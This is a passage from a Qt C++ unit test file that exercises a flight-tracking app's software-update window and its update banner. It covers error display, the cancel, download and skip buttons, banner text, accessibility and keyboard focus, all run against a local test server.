            window.findChild<QCheckBox *>(u"automaticChecks"_s), Qt::LeftButton, {}, QPoint(8, 8));
        QVERIFY(!m_preferences->automaticallyChecksForUpdates());
        QTest::mouseClick(button("ok"), Qt::LeftButton);
        QCOMPARE(window.state(), UpdateWindow::State::closed);

        // An error, in one line.
        m_server->setReply(u"/appcast.xml"_s, xml({}, 404));
        model->checkForUpdates();
        QTRY_COMPARE(window.state(), UpdateWindow::State::error);
        QCOMPARE(text("message"),
            u"Couldn't check for updates: The service answered HTTP 404 (Not Found)."_s);
        QTest::keyClick(&window, Qt::Key_Escape);
        QCOMPARE(window.state(), UpdateWindow::State::closed);
    }

    void windowButtons()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        auto model = makeModel(makeUpdater());
        UpdateWindow window(model->updater());
        // Cancel while checking.
        TestServer::Reply hang = xml({});
        hang.hang = true;
        m_server->setReply(u"/appcast.xml"_s, hang);
        model->checkForUpdates();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        QTest::mouseClick(window.findChild<QPushButton *>(u"cancel"_s), Qt::LeftButton);
        QVERIFY(!window.isVisible());
        QVERIFY(!model->sessionInProgress());

        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        model->checkForUpdates();
        QTRY_COMPARE(window.state(), UpdateWindow::State::updateFound);
        QTest::mouseClick(window.findChild<QPushButton *>(u"download"_s), Qt::LeftButton);
        QCOMPARE(
            m_opened, (QList<QUrl> { QUrl(u"https://skyvelle.example/releases/2.0.tar.gz"_s) }));
        QVERIFY(!window.isVisible());

        model->checkForUpdates();
        QTRY_COMPARE(window.state(), UpdateWindow::State::updateFound);
        QTest::mouseClick(window.findChild<QPushButton *>(u"skip"_s), Qt::LeftButton);
        QCOMPARE(m_preferences->skippedUpdateVersion(), u"2.0"_s);
        QVERIFY(!window.isVisible());
    }

    void banner()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        auto model = makeModel(makeUpdater());
        UpdateWindow window(model->updater());
        QWidget host;
        auto *bannerWidget = new UpdateBanner(model.get(), &host);
        QCOMPARE(bannerWidget->text(), u"Update available"_s);
        QCOMPARE(UpdateBanner::textFor(u"2.0"_s), u"2.0 available"_s);
        QCOMPARE(
            bannerWidget->toolTip(), u"A new version of Skyvelle is ready — click to install"_s);
        QCOMPARE(bannerWidget->accessibleName(), u"Update available"_s);
        QVERIFY(bannerWidget->focusPolicy() & Qt::TabFocus);
        QCOMPARE(probe(*model), QString());
        QCOMPARE(bannerWidget->text(), u"2.0 available"_s);
        QCOMPARE(bannerWidget->accessibleName(), u"2.0 available"_s);

        // A click (or Space with focus) starts the interactive check.
        host.show();
        QVERIFY(QTest::qWaitForWindowExposed(&host));
        QTest::mouseClick(bannerWidget, Qt::LeftButton);
        QVERIFY(model->sessionInProgress());
        QTRY_COMPARE(window.state(), UpdateWindow::State::updateFound);
        QTest::keyClick(&window, Qt::Key_Escape);
    }

    void bannerInTheStatusBar()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0", "2.0 (Spring)")));
        auto model = makeModel(makeUpdater());
        FlightStore store(m_preferences.get(), &m_network, Services::withOverrides({}),
            m_dir->filePath(u"data"_s));
        AircraftListView list(&store, m_preferences.get());
        UpdateBanner::attach(model.get(), &list);
        list.show();
        QVERIFY(QTest::qWaitForWindowExposed(&list));
        const auto shown = [&list] {
            auto *b = list.findChild<UpdateBanner *>(u"updateBanner"_s);
            return b && b->isVisible() ? b->text() : QString();
        };
        QCOMPARE(shown(), QString());

        // Set by "found" …
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        QCOMPARE(probe(*model), QString());
        QCOMPARE(shown(), u"2.0 (Spring) available"_s);
        // … cleared by the user's attention: the window shows the update …
        model->checkForUpdates();
        QTRY_COMPARE(driver.calls, (QStringList { u"checking"_s, u"found 2.0 (Spring)"_s }));
        QCOMPARE(driver.shownItem.description, u"<p>Changes in 2.0.</p>"_s);
        QCOMPARE(shown(), QString());
        QVERIFY(model->availableVersion().isEmpty());
        // … back with the re-probe after the session …
        driver.reply(UpdateChoice::remindLater);
        QCOMPARE(driver.calls.last(), u"dismiss"_s);
        QTRY_COMPARE(shown(), u"2.0 (Spring) available"_s);
        QCOMPARE(m_server->requestCount(u"/appcast.xml"_s), 3);
        // Tab goes from the list to the banner.
        list.listView()->setFocus();
        QTest::keyClick(list.listView(), Qt::Key_Tab);
        QCOMPARE(QApplication::focusWidget(), list.findChild<UpdateBanner *>(u"updateBanner"_s));
        // … and cleared by "not found".
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("1.0")));
        QCOMPARE(probe(*model), QString());
        QCOMPARE(shown(), QString());
        model->updater()->setUserDriver(nullptr);
    }
};

QTEST_MAIN(TestUpdates)
#include "tst_updates.moc"
